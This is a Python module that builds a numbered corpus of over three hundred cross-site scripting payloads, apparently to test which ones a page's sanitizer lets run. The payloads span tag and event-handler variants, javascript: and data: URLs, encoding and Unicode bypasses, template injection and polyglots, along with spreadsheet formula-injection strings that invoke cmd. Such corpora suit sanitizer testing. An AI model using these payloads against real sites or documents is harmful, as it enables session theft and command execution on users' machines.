"""Text that runs as a script where a page takes it for more than text: over three hundred ways.

Each way sets `lbran` to its own number (`number_of`), so that a page that watches this name (`WATCH`)
knows which one ran. Most need no blank, comma or bracket more than they must, so that most can be a tag.
"""

from __future__ import annotations

from functools import cache
from itertools import product

FIRST = 1001  # of the numbers: all of four digits, so that none is the beginning of another
RUN = "lbran=#"

# Watches from before a page's own scripts on: what ran, and nothing else can hide it.
WATCH = """
window.lb_fired = [];
Object.defineProperty(window, "lbran", { set(number) { window.lb_fired.push(number); }, get() { return undefined; } });
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => { window.lb_fired.push(name); };
"""

ELEMENTS = (
    *("<script>RUN</script>", "<script >RUN</script >", "<script\n>RUN//</script>"),
    *("<script src=data:text/javascript,RUN></script>", "<script>RUN<!--</script>"),
    *("<img src=x onerror=RUN>", "<img/src=x/onerror=RUN>", '<img src="x" onerror="RUN">'),
    *("<IMG SRC=x ONERROR=RUN>", "<iMg sRc=x oNeRrOr=RUN>", "<img src onerror=RUN//", "<img src=x onerror='RUN'"),
    *("<img\tsrc=x\tonerror=RUN>", "<img\nsrc=x\nonerror=RUN>", "<img\x0csrc=x\x0conerror=RUN>"),
    *("<img src=x:x onerror=RUN>", "<img srcset=x onerror=RUN>", "<image src=x onerror=RUN>"),
    *("<<img src=x onerror=RUN>", "<img src=x onerror=RUN <", "<img src=`x`onerror=RUN>"),
    *("<img alt='<x' src=x onerror=RUN>", '<img """><script>RUN</script>">', "<img src='#' onerror=RUN>"),
    *("<svg onload=RUN>", "<svg/onload=RUN>", "<svg onload=RUN//", "<svg\tonload=RUN>", "<SVG ONLOAD=RUN>"),
    *("<svg><script>RUN</script></svg>", "<svg><script>RUN", "<svg><script href=data:text/javascript,RUN />"),
    *("<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributename=x>"),
    *("<svg><image href=x onerror=RUN>", "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>"),
    *("<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>", "<svg><style><img src=x onerror=RUN></style>"),
    *("<svg><desc><img src=x onerror=RUN></desc></svg>", "<svg><title><svg onload=RUN></title></svg>"),
    *("<svg><discard onbegin=RUN>", "<svg><animatetransform onbegin=RUN>", "<svg><p><style><g title='</style><img src=x onerror=RUN>'>"),
    *("<math><a xlink:href=javascript:RUN>x</a></math>", "<math href=javascript:RUN>x</math>", "<math><mi><img src=x onerror=RUN></mi></math>"),
    *("<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<math><annotation-xml encoding=text/html><img src=x onerror=RUN>"),
    *("<math><x xlink:href=javascript:RUN>x", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=RUN>'>"),
    *("<iframe src=javascript:parent.RUN>", "<iframe srcdoc='<script>parent.RUN</script>'>", "<iframe onload=RUN>"),
    *("<iframe srcdoc=&lt;script&gt;parent.RUN&lt;/script&gt;>", "<iframe src=data:text/html,<script>parent.RUN</script>>"),
    *("<object data=javascript:RUN>", "<object data=x onerror=RUN>", "<embed src=javascript:RUN>", "<embed src=x onload=RUN>"),
    *("<a href=javascript:RUN>x</a>", '<a href="javascript:RUN">x</a>', "<a href=&#106;avascript:RUN>x</a>", "<area href=javascript:RUN>"),
    *("<form action=javascript:RUN><input type=submit>", "<button form=x formaction=javascript:RUN>x", "<form><input type=image src=x onerror=RUN>"),
    *("<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<keygen autofocus onfocus=RUN>"),
    *("<video src=x onerror=RUN>", "<video><source onerror=RUN>", "<audio src=x onerror=RUN>", "<video poster=javascript:RUN>"),
    *("<video onloadstart=RUN src=x>", "<audio onloadstart=RUN src=x>", "<track onerror=RUN src=x>", "<picture><source srcset=x><img onerror=RUN></picture>"),
    *("<details open ontoggle=RUN>", "<details open ontoggle=RUN><summary>x</summary></details>", "<dialog open onclose=RUN>"),
    *("<marquee onstart=RUN>", "<marquee loop=1 width=0 onfinish=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>", "<html onmouseover=RUN>"),
    *("<style onload=RUN></style>", "<style>@import 'javascript:RUN';</style>", "<style><img src=x onerror=RUN></style>"),
    *("<link rel=stylesheet href=x onerror=RUN>", "<link rel=import href=javascript:RUN>", "<meta http-equiv=refresh content=0;url=javascript:RUN>"),
    *("<base href=javascript:RUN//>", "<table background=javascript:RUN>", "<td background=javascript:RUN>", "<frameset onload=RUN>"),
    *("<div style=background:url(javascript:RUN)>", "<div style=width:expression(RUN)>", "<div style='animation:x' onanimationstart=RUN>"),
    *("<xss onpointerrawupdate=RUN style=display:block>x", "<x onclick=RUN>x", "<x tabindex=1 autofocus onfocus=RUN>", "<x contenteditable onblur=RUN autofocus>x"),
    *("<template><script>RUN</script></template>", "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<isindex action=javascript:RUN type=submit>"),
    *("<noembed><img title='</noembed><img src=x onerror=RUN>'>", "<xmp><p title='</xmp><img src=x onerror=RUN>'>", "<plaintext><img src=x onerror=RUN>"),
    *("<!--<img src='--><img src=x onerror=RUN>'>", "<![CDATA[<img src=x onerror=RUN>]]>", "<?xml version='1.0'?><img src=x onerror=RUN>", "<!DOCTYPE x [<!ENTITY x 'RUN'>]>"),
    *("<comment><img src='</comment><img src=x onerror=RUN>'>", "<listing>&lt;img src=x onerror=RUN&gt;</listing>", "</br style=x onload=RUN>"),
    *("<portal src=javascript:RUN>", "<slot onslotchange=RUN><p slot=x>", "<input type=hidden oncontentvisibilityautostatechange=RUN style=content-visibility:auto>"),
)  # fmt: skip
BREAKS = ('">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->",
          "--!>", "]]>", "</noscript>", "</iframe>", "</xmp>", "</template>", "</svg>", "</math>", '"/>', "\\\">", "?>")  # fmt: skip
BROKEN_INTO = ("<img src=x onerror=RUN>", "<script>RUN</script>", "<svg/onload=RUN>")
QUOTES = ('"', "'", "`", "")
EVENTS = ("onmouseover", "onfocus", "onclick", "onerror", "onload", "onanimationend", "onpointerenter", "oncut",
          "onbeforeinput", "ontransitionend", "onwheel", "onkeydown")  # fmt: skip
EXPRESSIONS = ("RUN", "window.RUN", "constructor.constructor('RUN')()")
TEMPLATES = ("${{{}}}", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "#{{{}}}", "<%={}%>", "{{%{}%}}", "[[${{{}}}]]", "*{{{}}}", "@{{{}}}",
             "`${{{}}}`", "\\${{{}}}", "$${{{}}}", "${{`${{{}}}`}}", "{{{{#with this}}}}{{{{{}}}}}{{{{/with}}}}", "{{!!{}!!}}",
             "[%={}%]", "~{{{}}}", "%{{{}}}", "</x>${{{}}}", "{{{{'a'.constructor.prototype.charAt=[].join;{}}}}}",
             "<x v-if={}>", "<x ng-init={}>", "{{@html '<img src=x onerror={}>'}}", "\u201c${{{}}}\u201d")  # fmt: skip
IN_SCRIPTS = ("';RUN;//", '";RUN;//', "`;RUN;//", "\\';RUN//", '\\";RUN//', "'-(RUN)-'", '"+(RUN)+"', "*/RUN/*", "\u2028RUN//",
              "\u2029RUN//", "\\u0027;RUN//", "\\x27;RUN//", "'});RUN;({'", "]];RUN;[[", "-->\nRUN//", "x\\\nRUN//", "?RUN:0",
              "__proto__[x]=RUN", "constructor.RUN", "0;RUN", "}RUN;{", ")RUN;(", "'`\"></script><script>RUN</script>",
              "\\\\';RUN//", "%27;RUN//", "&apos;;RUN//", "&#39;;RUN//", "&quot;;RUN//", "\\n';RUN//")  # fmt: skip
ADDRESSES = ("javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\x01javascript:RUN", "java\tscript:RUN", "java\nscript:RUN",
             "javascript&colon;RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN", "&#106avascript:RUN", "&#x6A;avascript:RUN",
             "javascript://%0aRUN", "javascript://x.example/%0d%0aRUN", "javascript:/*--></title></style></textarea></script><svg/onload=RUN>",
             "vbscript:RUN", "livescript:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5sYl9yYW49MTwvc2NyaXB0Pg==#RUN",
             "data:image/svg+xml,<svg onload=RUN>", "view-source:javascript:RUN", "feed:javascript:RUN", "blob:javascript:RUN",
             "javascript:void(RUN)", "ｊａｖａｓｃｒｉｐｔ:RUN", "http://x.example\\@javascript:RUN", "//x.example/?RUN")  # fmt: skip
CODED = ("&lt;img src=x onerror=RUN&gt;", "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "&#x3c;svg/onload=RUN&#x3e;",
         "&#0000060img src=x onerror=RUN>", "&ltimg src=x onerror=RUN&gt", "&amp;lt;img src=x onerror=RUN&amp;gt;", "&LT;script&GT;RUN",
         "%3Cimg src=x onerror=RUN%3E", "%253Csvg onload=RUN%253E", "\\u003cimg src=x onerror=RUN\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
         "\\74svg onload=RUN\\76", "\\3c img src=x onerror=RUN", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "%uff1cscript%uff1eRUN",
         "&nbsp;<img src=x onerror=RUN>&nbsp;", "&zwnj;<svg/onload=RUN>", "=3Cscript=3ERUN", "\\U0000003Cscript\\U0000003ERUN")  # fmt: skip
UNICODE = ("＜img src=x onerror=RUN＞", "‹script›RUN‹/script›", "〈svg onload=RUN〉", "<\u200bscript>RUN</script>", "<scr\u00adipt>RUN</script>",
           "\u202e<img src=x onerror=RUN>", "\u2066<svg/onload=RUN>\u2069", "<img\u00a0src=x\u00a0onerror=RUN>", "<img\u3000src=x onerror=RUN>",
           "\ufeff<script>RUN</script>", "<\u0338script>RUN</script>", "<ſcript>RUN</ſcript>", "<scrıpt>RUN</scrıpt>", "<İmg src=x onerror=RUN>",
           "<im\0g src=x onerror=RUN>", "<scr\0ipt>RUN</scr\0ipt>", "\0<img src=x onerror=RUN>", "<img src=x onerror=RUN\0>", "%00<svg/onload=RUN>",
           "ʺ＞<svg/onload=RUN>", "e\u0301<img src=x onerror=RUN>e\u0301", "é<img src=x onerror=RUN>é", "🦋<svg/onload=RUN>👩‍👩‍👧", "<img/\u2028src=x onerror=RUN>",
           "カフカ<img src=x onerror=RUN>", "שלום<svg/onload=RUN>עולם", "<a\u034fhref=javascript:RUN>", "\x1b]8;;javascript:RUN\x07x", "\x7f<svg/onload=RUN>")  # fmt: skip
SHEETS = ("=HYPERLINK(\"javascript:RUN\")", "=cmd|' /C RUN'!A0", "@SUM(1+1)*cmd|' /C RUN'!A0", "+1+cmd|' /C RUN'!A0", "-2+3+cmd|' /C RUN'!A0",
          "\t=1+RUN", "=IMPORTXML(\"x\";\"RUN\")", ";=RUN", "=WEBSERVICE(\"x\"&\"RUN\")", "=_= RUN", "@_@ RUN", "+_+ RUN", "'=RUN", "\"=RUN\"")  # fmt: skip
LONG = ("<b>" * 60 + "<img src=x onerror=RUN>", "<img src=x onerror=RUN>" * 20, "a" * 900 + "<svg/onload=RUN>", "((((((((<svg/onload=RUN>))))))))",
        "<svg/onload=RUN>" + " x" * 300, "\\(" * 40 + "<img src=x onerror=RUN>")  # fmt: skip
AT_ONCE = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e",
    "\"'`><img src=x onerror=RUN>${RUN}{{RUN}}</script><script>RUN</script>",
    "'\">><marquee><img src=x onerror=RUN></marquee>\"></textarea\\></|\\><script>RUN</script>@gmail.com",
    "\"><svg/onload=RUN>${RUN}#{RUN}<%=RUN%>{{RUN}}[[RUN]]",
)  # fmt: skip


@cache
def hostile_texts() -> tuple[str, ...]:
    """All of them, no two alike, each with a number of its own in the place of RUN."""
    made = [*ELEMENTS, *IN_SCRIPTS, *ADDRESSES, *CODED, *UNICODE, *SHEETS, *LONG, *AT_ONCE]
    made += [mark + into for mark, into in product(BREAKS, BROKEN_INTO)]
    made += [f"{quote} {event}=RUN autofocus x={quote}" for quote, event in product(QUOTES, EVENTS)]
    made += [way.format(what) for way, what in product(TEMPLATES, EXPRESSIONS)]
    ways = dict.fromkeys(made)
    return tuple(
        way.replace("RUN", RUN.replace("#", str(number))) for number, way in enumerate(ways, FIRST)
    )


def plain_line(text: str) -> bool:
    """Has it one line, and only what can be seen or is a blank?"""
    return text.isprintable() and text == text.strip()
